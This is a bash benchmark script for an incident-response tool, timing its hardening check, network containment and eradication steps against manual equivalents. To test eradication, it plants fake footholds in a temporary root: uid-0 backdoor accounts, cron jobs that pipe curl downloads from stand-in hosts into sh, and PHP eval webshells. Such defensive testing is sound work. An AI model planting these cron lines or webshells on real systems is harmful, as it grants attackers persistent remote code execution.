#!/usr/bin/env bash
# Response actions against what a responder would otherwise run, in one run:
#   1. harden check          vs  lynis audit system --quick (the usual hardening scorer)
#   2. contain network + undo (plan, journal, vault, nft transaction) vs the same ruleset
#      loaded and deleted with nft by hand, inside a network namespace this script creates
#   3. eradicate every planted foothold (with each re-check) + undo --all on a throwaway root,
#      against one triage run of the same root (the cost of finding them)
#
#   bench/respond.sh [RUNS]        (default 5; needs root for part 2; lynis is installed by apt
#                                   when missing and possible)
set -euo pipefail
cd "$(dirname "$0")/.."
. bench/lib.sh
runs=${1:-5}
export CARGO_TARGET_DIR="${CARGO_TARGET_DIR:-$HOME/.cache/firewarden-target}"
cargo build --release --locked -p firewarden >/dev/null 2>&1
fw="$CARGO_TARGET_DIR/release/firewarden"
work=$(mktemp -d)
ns="fw-bench-$$"
trap 'ip netns del "$ns" 2>/dev/null || true; rm -rf "$work"' EXIT

echo "== 1. harden check vs lynis ($runs runs, median wall seconds)"
if ! command -v lynis >/dev/null && [ "$(id -u)" -eq 0 ]; then
  DEBIAN_FRONTEND=noninteractive apt-get install -y -qq lynis >/dev/null 2>&1 || true
fi
echo "firewarden harden check: $(timeit "$fw" harden check) s ($("$fw" harden check --format json | grep -c '"id"') items)"
if command -v lynis >/dev/null; then
  echo "lynis audit system --quick: $(timeit lynis audit system --quick --no-colors --no-log --report-file "$work/lynis.dat") s ($(lynis --version))"
else
  echo "lynis: not installed, skipped"
fi

echo "== 2. network containment + undo in a namespace"
if [ "$(id -u)" -eq 0 ] && command -v nft >/dev/null && command -v ip >/dev/null; then
  ip netns add "$ns"
  ip -n "$ns" link set lo up
  contain_cycle() {
    ip netns exec "$ns" "$fw" contain network --allow 192.0.2.7 --allow-port 22 --ttl 15m --yes --state-dir "$work/state" >/dev/null
    ip netns exec "$ns" "$fw" undo --all --state-dir "$work/state" >/dev/null
  }
  "$fw" contain network --allow 192.0.2.7 --allow-port 22 --ttl 15m --dry-run --state-dir "$work/dry" \
    | sed -n '/^    table inet firewarden/,/^    }$/p' | sed 's/^    //' > "$work/rules.nft"
  by_hand() {
    ip netns exec "$ns" nft -f "$work/rules.nft"
    ip netns exec "$ns" nft delete table inet firewarden
  }
  echo "firewarden contain network + undo: $(timeit contain_cycle) s"
  echo "nft -f (same ruleset) + nft delete table: $(timeit by_hand) s"
  echo "journal entries written: $(wc -l < "$work/state/journal.jsonl")"
else
  echo "needs root, ip and nft: skipped"
fi

echo "== 3. eradicate planted footholds + undo --all"
root="$work/root"
mkdir -p "$root/etc/cron.d" "$root/root/.ssh" "$root/var/www/html" "$root/tmp/.x"
printf 'root:x:0:0:root:/root:/bin/bash\n' > "$root/etc/passwd"
for i in $(seq 1 20); do
  printf 'toor%s:x:0:0::/root:/bin/bash\n' "$i" >> "$root/etc/passwd"
  printf '*/%s * * * * root curl -fsSL http://203.0.113.%s/x.sh | sh\n' "$((i % 59 + 1))" "$i" >> "$root/etc/cron.d/sync"
  printf '<?php @eval($_POST["c%s"]); ?>\n' "$i" > "$root/var/www/html/s$i.php"
  printf '\177ELF%s' "$i" > "$root/tmp/.x/m$i"
  chmod +x "$root/tmp/.x/m$i"
done
"$fw" triage --root "$root" --format json -o "$work/t.json" >/dev/null 2>&1 || true
ids=$(grep -o '"id": *"linux\.\(accounts\.uid0\|persistence\.cron\|web\.webshell\|files\.temp_dirs\):[0-9a-f]*"' "$work/t.json" | sed 's/.*"\(linux[^"]*\)"/\1/' | tr '\n' ' ')
n=$(echo "$ids" | wc -w)
cp -a "$root" "$work/pristine"
cycle() {
  rm -rf "$work/estate"
  # shellcheck disable=SC2086
  "$fw" eradicate --from "$work/t.json" $ids --root "$root" --state-dir "$work/estate" --yes >/dev/null
  "$fw" undo --all --root "$root" --state-dir "$work/estate" >/dev/null
}
echo "findings eradicated per run: $n"
echo "firewarden eradicate (each re-checked) + undo --all: $(timeit cycle) s"
echo "firewarden triage of the same root (once): $(timeit "$fw" triage --root "$root") s"
diff -r "$work/pristine" "$root" >/dev/null && echo "root identical to the start after every cycle: yes"
